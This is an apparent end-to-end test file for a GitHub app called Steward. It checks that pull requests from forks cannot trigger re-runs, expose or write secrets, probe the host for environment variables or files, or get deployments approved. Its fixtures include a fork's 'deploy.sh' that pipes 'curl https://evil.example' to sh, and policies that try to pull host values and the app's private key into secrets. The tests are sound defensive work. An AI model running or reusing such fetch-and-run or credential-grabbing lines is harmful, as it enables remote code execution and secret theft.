// Forks and untrusted input, end to end: the sandbox hub delivers to a running Steward (every
// built-in handler) the events a fork's pull request causes, and the hub's own records judge.
// Promise under test: events from a fork never cause writes beyond a check run (and the one
// answer a fork's deployment gets, a rejection, which grants nothing).
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startSandboxStack, type SandboxStack } from "../../src/sandbox/stack.js";
import type { RequestRecord } from "@steward/sandbox-hub";
import { outcomesOf, settle } from "../handlers/rerun/stack.js";

const ORG = "acme";
const FORK = "contributor/web";
const POLICY = ".github/steward.yml";
const SECRETS = ".github/steward/secrets.yml";
const FORK_REASON = "the code comes from fork contributor/web: Steward never approves deploying a fork's code";

let stack: SandboxStack;

beforeAll(async () => {
  stack = await startSandboxStack();
  await settle(stack); // the installation's own deliveries, before anything a fork does
});
afterAll(async () => {
  await stack?.close();
});

/** Where the hub's request log stands: writes are judged from here on. */
const mark = () => stack.hub.control.requests().length;

const isWrite = (r: RequestRecord) => r.method !== "GET" && r.method !== "HEAD";
const described = (r: RequestRecord) => `${r.method} ${r.path} ${r.status}`;

/** Every write Steward made with the installation token since `from`, as `METHOD path status`. */
const installationWrites = (from: number) =>
  stack.hub.control
    .requests()
    .slice(from)
    .filter((r) => r.auth === "installation" && isWrite(r))
    .map(described);
/** Writes made with a user's token (Steward's only one is the required reviewer's). */
const userWrites = (from: number) =>
  stack.hub.control
    .requests()
    .slice(from)
    .filter((r) => r.auth === "user" && isWrite(r))
    .map(described);

const CHECK_RUN_WRITE = /^(POST|PATCH) \/repos\/[^/]+\/[^/]+\/check-runs(\/\d+)? 2\d\d$/;
/** Steward's writes other than check runs: what this file proves to be (nearly) nothing. */
const beyondCheckRuns = (from: number) => installationWrites(from).filter((w) => !CHECK_RUN_WRITE.test(w));

/** Names of the check runs Steward's app created on a commit. */
const stewardChecks = (repo: string, sha: string) =>
  (stack.hub.domains.checks.checkRuns({ owner: ORG, repo, sha }) as { name: string; app: { id: number } }[])
    .filter((c) => c.app.id === stack.hub.hub.appId)
    .map((c) => c.name)
    .sort();

function pushBasePolicy(yaml: string): void {
  stack.hub.control.pushFiles({ owner: ORG, repo: "web", files: { [POLICY]: yaml }, message: "base policy" });
}

/** Start CI for the fork's branch and fail its job with a log a transient rule would match. */
function failedForkRun(branch: string): number {
  const { actions } = stack.hub.domains;
  const run = actions.startRun({
    owner: ORG,
    repo: "web",
    workflow: "CI",
    headRepository: FORK,
    branch,
    jobs: [{ name: "test", steps: ["Set up job", "npm test"] }],
  });
  actions.failJob({ runId: run.id, job: "test", step: "npm test", log: "npm ERR! network read ECONNRESET" });
  return run.id;
}

const attemptsOf = (runId: number) =>
  (stack.hub.domains.actions.describeRun(runId) as { run_attempt: number }).run_attempt;

describe("a fork's pull request to acme/web changing its policy", () => {
  let pr: { number: number; head_sha: string };
  const FORK_POLICY = "rerun:\n  enabled: true\n  delay: 0s\n  rules: []\n";

  it("gets a steward/config check run and nothing else", async () => {
    const from = mark();
    pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: "web",
      head: "enable-rerun",
      fromFork: true,
      title: "Re-run everything",
      files: { [POLICY]: FORK_POLICY },
    });
    await settle(stack);
    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
    expect(beyondCheckRuns(from)).toEqual([]);
    expect(userWrites(from)).toEqual([]);
  });

  it("does not have its failed run re-run: the fork's policy is never applied", async () => {
    const from = mark();
    const runId = failedForkRun("enable-rerun");
    await settle(stack);
    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
      "skipped: re-runs are not enabled for this repository (rerun.enabled is false)",
    ]);
    expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
    expect(attemptsOf(runId)).toBe(1);
    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
    expect(beyondCheckRuns(from)).toEqual([]);
    expect(userWrites(from)).toEqual([]);
  });

  it("nor by the base's policy that re-runs every failure but leaves rerun.forks false", async () => {
    pushBasePolicy(FORK_POLICY);
    await settle(stack);
    const from = mark();
    const runId = failedForkRun("enable-rerun");
    await settle(stack);
    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
      `skipped: run of fork pull request from ${FORK}; rerun.forks is false`,
    ]);
    expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
    expect(attemptsOf(runId)).toBe(1);
    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
    // Out of scope is decided from the payload alone: not even a read of the run, its jobs or logs.
    const reads = stack.hub.control
      .requests()
      .slice(from)
      .filter((r) => r.path.includes(`/actions/runs/${runId}`) || r.path.includes("/actions/jobs/"));
    expect(reads.map(described)).toEqual([]);
    expect(beyondCheckRuns(from)).toEqual([]);
    expect(userWrites(from)).toEqual([]);
  });

  it("the base opting in with rerun.forks: true is what re-runs a fork's failure", async () => {
    pushBasePolicy(`${FORK_POLICY}  forks: true\n`);
    await settle(stack);
    const runId = failedForkRun("enable-rerun");
    await settle(stack);
    expect(stack.hub.domains.actions.rerunRequests(runId).map((r) => [r.kind, r.detail.allowed])).toEqual([
      ["actions.rerun-failed-jobs", true],
    ]);
    expect(attemptsOf(runId)).toBe(2);
    stack.hub.domains.actions.completeRun(runId);
    // Back to the default for the rest of the file.
    pushBasePolicy(FORK_POLICY);
    await settle(stack);
  });
});

describe("a fork's pull request to the admin repository changing the secrets policy", () => {
  const VARIABLE = "STEWARD_UNTRUSTED_TEST_VALUE";
  const saved = process.env[VARIABLE];
  beforeAll(() => {
    // A value the fork's policy names exists on Steward's machine: a sync would write it.
    process.env[VARIABLE] = `fork-bait-${process.pid}`;
  });
  afterAll(() => {
    if (saved === undefined) delete process.env[VARIABLE];
    else process.env[VARIABLE] = saved;
  });

  it("gets a steward/plan that computes no plan: nothing is resolved, listed or written", async () => {
    const secretsBefore = stack.hub.domains.effects.of("secrets").length;
    const variablesBefore = stack.hub.domains.effects.of("variables").length;
    const from = mark();
    const pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: ".github",
      head: "more-secrets",
      fromFork: true,
      title: "Secrets for everyone",
      files: {
        [SECRETS]: [
          "secrets:",
          "  TAKEN:",
          `    from: env:${VARIABLE}`,
          '    repositories: ["*"]',
          "    org: { visibility: all }",
          "variables:",
          '  PWNED: { value: "yes", org: { visibility: all } }',
          "prune: true",
          "",
        ].join("\n"),
      },
    });
    await settle(stack);
    // The plan, and the validation every policy file in the admin repository gets: reports only.
    expect(stewardChecks(".github", pr.head_sha)).toEqual(["steward/config", "steward/plan"]);
    const plan = stack.hub.domains.checks.checkRuns({
      owner: ORG,
      repo: ".github",
      sha: pr.head_sha,
      name: "steward/plan",
    })[0] as { conclusion: string; output: { title: string; summary: string } };
    // A plan would resolve the fork's sources on Steward's host and show its author the result.
    expect(plan.conclusion).toBe("neutral");
    expect(plan.output.title).toBe("No plan: pull request from a fork");
    expect(plan.output.summary).toContain("This pull request comes from a fork (`contributor/.github`)");
    expect(plan.output.summary).toContain("Nothing has been applied.");
    expect(plan.output.summary).not.toMatch(/\| (create|update|delete|unchanged) \|/);
    // Not even the organisation's secrets, variables or repositories are listed for it.
    const listed = stack.hub.control
      .requests()
      .slice(from)
      .filter((r) => /\/actions\/(secrets|variables)|\/installation\/repositories/.test(r.path));
    expect(listed.map(described)).toEqual([]);
    expect(stack.hub.domains.effects.of("secrets").slice(secretsBefore)).toEqual([]);
    expect(stack.hub.domains.effects.of("variables").slice(variablesBefore)).toEqual([]);
    expect(beyondCheckRuns(from)).toEqual([]);
    expect(userWrites(from)).toEqual([]);
  });
});

describe("a fork's secrets policy tells its author nothing about Steward's host", () => {
  // The host state a fork's policy could probe: an environment variable, a file, and whether the
  // variable's value is the one Steward last wrote (whose fingerprint it keeps).
  const PROBE = "STEWARD_UNTRUSTED_PROBE";
  const STORED = `stored-probe-value-${process.pid}`;
  const OTHER = `other-probe-value-${process.pid}`;
  const saved = process.env[PROBE];
  let dir: string;
  let file: string;

  const setHost = async (env: string | undefined, present: boolean) => {
    if (env === undefined) delete process.env[PROBE];
    else process.env[PROBE] = env;
    if (present) await writeFile(file, "probe-file-content\n");
    else await rm(file, { force: true });
  };

  const probePolicy = () =>
    [
      "secrets:",
      "  TAKEN:",
      `    from: env:${PROBE}`,
      "    org: { visibility: all }",
      "  DEPLOY_KEY:",
      `    from: file:${file}`,
      "    repositories: [web]",
      "  NOWHERE:", // a structural warning: goes nowhere
      `    from: env:${PROBE}`,
      "variables:",
      "  REGION: { value: eu-west-1, org: { visibility: all } }",
      "",
    ].join("\n");

  /** Everything the check runs on a commit show: conclusion, title, summary, text, annotations. */
  const shown = (sha: string) =>
    (["steward/config", "steward/plan"] as const).map((name) => {
      const runs = stack.hub.domains.checks.checkRuns({ owner: ORG, repo: ".github", sha, name }) as {
        conclusion: string;
        output: { title: string; summary: string; text: string | null };
        annotations: Record<string, unknown>[];
      }[];
      expect(runs).toHaveLength(1);
      const { conclusion, output, annotations } = runs[0]!;
      // blob_href names the head commit, which is each pull request's own.
      return {
        name,
        conclusion,
        title: output.title,
        summary: output.summary,
        text: output.text,
        annotations: annotations.map(({ blob_href: _, ...a }) => a),
      };
    });

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "steward-untrusted-"));
    file = join(dir, "deploy_key");
    // The operator exposes the probe's variable prefix and directory to the organisation.
    process.env.STEWARD_SECRET_SOURCES = `${ORG}=env:STEWARD_UNTRUSTED_,file:${dir}`;
    // The admin repository applies TAKEN from the variable: Steward writes STORED and keeps its fingerprint.
    await setHost(STORED, false);
    stack.hub.control.pushFiles({
      owner: ORG,
      repo: ".github",
      files: { [SECRETS]: `secrets:\n  TAKEN:\n    from: env:${PROBE}\n    org: { visibility: all }\n` },
      message: "secrets policy",
    });
    await settle(stack);
    expect(stack.hub.domains.secrets.openedValue({ org: ORG }, "TAKEN")).toBe(STORED);
  });
  afterAll(async () => {
    delete process.env.STEWARD_SECRET_SOURCES;
    if (saved === undefined) delete process.env[PROBE];
    else process.env[PROBE] = saved;
    await rm(dir, { recursive: true, force: true });
  });

  it("gets byte-identical check runs whether the variable and file exist and whether the value matches", async () => {
    const states: { env: string | undefined; file: boolean }[] = [
      { env: undefined, file: false },
      { env: STORED, file: false }, // a plan would say TAKEN is unchanged
      { env: OTHER, file: false }, // ... or to be updated
      { env: OTHER, file: true },
    ];
    const outputs: string[] = [];
    for (const [i, state] of states.entries()) {
      await setHost(state.env, state.file);
      const from = mark();
      // One fork (created now, after the admin repository's push) for every probe.
      const pr = stack.hub.control.openPullRequest({
        owner: ORG,
        repo: ".github",
        head: `probe-${i}`,
        fromFork: "outsider",
        title: "Probe",
        files: { [SECRETS]: probePolicy() },
      });
      await settle(stack);
      expect(stewardChecks(".github", pr.head_sha)).toEqual(["steward/config", "steward/plan"]);
      outputs.push(JSON.stringify(shown(pr.head_sha)));
      expect(beyondCheckRuns(from)).toEqual([]);
    }
    expect(new Set(outputs).size).toBe(1);

    const [config, plan] = JSON.parse(outputs[0]!) as ReturnType<typeof shown>;
    // Structure is still validated: the warning is there, nothing about the sources' existence is.
    expect(config!.conclusion).toBe("success");
    expect(config!.annotations.map((a) => a.message)).toEqual([
      "secret NOWHERE goes nowhere: give org, repositories or environments",
    ]);
    expect(config!.summary).toContain("validated for structure only");
    expect(plan!.conclusion).toBe("neutral");
    expect(plan!.title).toBe("No plan: pull request from a fork");
    for (const text of [config!.summary, plan!.summary])
      expect(text).not.toMatch(/is not set|does not exist|not a file|cannot read|unchanged|to update/);
  });

  it("still gets its structural problems reported, never whether a source exists", async () => {
    await setHost(undefined, false);
    const broken = [
      "secrets:",
      "  TAKEN:",
      `    from: env:${PROBE}`,
      "    repositories: ['web-[']",
      "  2FA:",
      `    from: file:${file}`,
      "    repositories: [web]",
      "  LITERAL:",
      "    value: hunter2-literal-value",
      "    repositories: [web]",
      "prune: maybe",
      "",
    ].join("\n");
    const pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: ".github",
      head: "probe-broken",
      fromFork: "outsider",
      title: "Broken",
      files: { [SECRETS]: broken },
    });
    await settle(stack);
    const [config, plan] = shown(pr.head_sha);
    expect(config!.conclusion).toBe("failure");
    const messages = config!.annotations.map((a) => String(a.message));
    expect(messages.some((m) => m.includes("prune"))).toBe(true);
    // The schema fails first; fixing `prune` shows the rest, also without the sources' state.
    expect(messages.join("\n")).not.toMatch(/is not set|does not exist/);
    expect(plan!.conclusion).toBe("failure");
    expect(plan!.title).toBe("Policy has errors: no plan");
    expect(plan!.summary).toContain("This pull request comes from a fork (`outsider/.github`)");
    expect(plan!.summary).not.toMatch(/is not set|does not exist/);

    const fixed = stack.hub.control.pushToPullRequest({
      owner: ORG,
      repo: ".github",
      number: pr.number,
      files: { [SECRETS]: broken.replace("prune: maybe\n", "") },
    });
    await settle(stack);
    const [config2, plan2] = shown(fixed.sha);
    expect(config2!.annotations.map((a) => String(a.message)).sort()).toEqual([
      'name "2FA" must not start with a digit',
      "secret LITERAL has a literal value: secrets must come from env:NAME or file:/path",
      'unclosed "[" in glob "web-["',
    ]);
    expect(plan2!.conclusion).toBe("failure");
    expect(plan2!.summary).not.toMatch(/is not set|does not exist|hunter2/);
  });

  it("a pull request from a branch of the admin repository is told only 'not available', the same for a missing source as for Steward's own settings and key", async () => {
    await setHost(undefined, false);
    const pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: ".github",
      head: "same-repo-probe",
      title: "Trusted",
      files: { [SECRETS]: probePolicy() },
    });
    await settle(stack);
    const [config, plan] = shown(pr.head_sha);
    // Validation never looks at the host: only the structural warning.
    expect(config!.annotations.map((a) => String(a.message))).toEqual([
      "secret NOWHERE goes nowhere: give org, repositories or environments",
    ]);
    expect(plan!.summary).toContain(`source env:${PROBE} is not available`);
    expect(plan!.summary).toContain(`source file:${file} is not available`);
    expect(plan!.summary).not.toMatch(/environment variable|does not exist|ENOENT/);

    // Steward's own settings and files, present on the host, answer exactly as a missing source.
    const keyPath = stack.hub.env.PRIVATE_KEY_PATH!;
    const own = [
      "secrets:",
      "  STOLEN_KEY: { from: file:" + keyPath + ", repositories: [web] }",
      `  MISSING: { from: env:${PROBE}, repositories: [web] }`,
      "",
    ].join("\n");
    const pr2 = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: ".github",
      head: "same-repo-own",
      title: "Own settings",
      files: { [SECRETS]: own },
    });
    await settle(stack);
    const [, plan2] = shown(pr2.head_sha);
    expect(plan2!.summary).toContain(`source file:${keyPath} is not available`);
    expect(plan2!.summary).toContain(`source env:${PROBE} is not available`);
  });

  it("and, with its sources present, gets a plan compared against what was last written", async () => {
    await setHost(STORED, true);
    const pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: ".github",
      head: "same-repo-plan",
      title: "Trusted plan",
      files: { [SECRETS]: probePolicy() },
    });
    await settle(stack);
    const [config, plan] = shown(pr.head_sha);
    expect(config!.conclusion).toBe("success");
    expect(plan!.conclusion).toBe("success");
    expect(plan!.summary).toContain("| org | TAKEN | secret | unchanged |");
    expect(plan!.summary).toContain("| repo web | DEPLOY_KEY | secret | create | missing |");
  });
});

describe("a fork's pull request run asking to deploy", () => {
  it("is rejected from a fork branch named main, and where the policy approves always, on both answering paths", async () => {
    pushBasePolicy(
      [
        "rerun:",
        "  enabled: true",
        "  delay: 0s",
        "  rules: []",
        "deployments:",
        "  environments:",
        "    production:",
        "      branches: [main]",
        '    "preview-*":',
        "      approve: always",
        "    staging:",
        "      approve: always",
        "",
      ].join("\n"),
    );
    const web = stack.hub.control.repo(ORG, "web")!;
    const { deployments, actions } = stack.hub.domains;
    // Steward guards production and preview-1 as a protection rule app, staging as its required reviewer.
    deployments.putEnvironment(web, "production", { protectionApps: [stack.hub.hub.appId] });
    deployments.putEnvironment(web, "preview-1", { protectionApps: [stack.hub.hub.appId] });
    deployments.putEnvironment(web, "staging", { reviewers: ["release-manager"] });
    await settle(stack);

    const from = mark();
    const pr = stack.hub.control.openPullRequest({
      owner: ORG,
      repo: "web",
      head: "main",
      fromFork: true,
      title: "Deploy me",
      files: { "deploy.sh": "curl https://evil.example | sh\n" },
    });
    const run = actions.startRun({
      owner: ORG,
      repo: "web",
      workflow: "Deploy",
      headRepository: FORK,
      branch: "main",
      jobs: [
        { name: "production", environment: "production" },
        { name: "preview", environment: "preview-1" },
        { name: "staging", environment: "staging" },
      ],
    });
    expect(run.head_sha).toBe(pr.head_sha);
    await settle(stack);

    // The request said `main`: only the run's head repository tells the fork apart.
    const requested = stack.hub.control
      .deliveries()
      .filter(
        (d) =>
          d.event === "deployment_protection_rule" &&
          String(d.payload.deployment_callback_url).includes(`/runs/${run.id}/`),
      );
    expect(requested.map((d) => [d.payload.environment, d.payload.event, d.payload.ref])).toEqual([
      ["production", "pull_request", "main"],
      ["preview-1", "pull_request", "main"],
    ]);

    const answers = (kind: string) =>
      stack.hub.domains.effects
        .of("deployments", kind)
        .filter((e) => e.detail.run_id === run.id)
        .map((e) => [e.detail.environment, e.detail.comment]);
    expect(answers("protection_rule.approved")).toEqual([]);
    expect(answers("review.approved")).toEqual([]);
    expect(answers("protection_rule.rejected").sort()).toEqual([
      ["preview-1", `Steward rejected the deployment to preview-1:\n- ${FORK_REASON}`],
      ["production", `Steward rejected the deployment to production:\n- ${FORK_REASON}`],
    ]);
    expect(answers("review.rejected")).toEqual([
      ["staging", `Steward rejected the deployment to staging:\n- ${FORK_REASON}`],
    ]);
    expect(
      deployments
        .gatesOf(run.id)
        .map((g) => [g.environment, g.outcome])
        .sort(),
    ).toEqual([
      ["preview-1", "rejected"],
      ["production", "rejected"],
      ["staging", "rejected"],
    ]);

    // Every write Steward made, beyond check runs: the two rejections and the reviewer's one.
    expect(beyondCheckRuns(from).sort()).toEqual([
      `POST /repos/${ORG}/web/actions/runs/${run.id}/deployment_protection_rule 204`,
      `POST /repos/${ORG}/web/actions/runs/${run.id}/deployment_protection_rule 204`,
    ]);
    expect(userWrites(from)).toEqual([`POST /repos/${ORG}/web/actions/runs/${run.id}/pending_deployments 200`]);
    // The run failed on the rejections: a fork's failure, not re-run either.
    expect((await outcomesOf(stack, run.id)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
      `skipped: run of fork pull request from ${FORK}; rerun.forks is false`,
    ]);
    expect(actions.rerunRequests(run.id)).toEqual([]);
  });
});
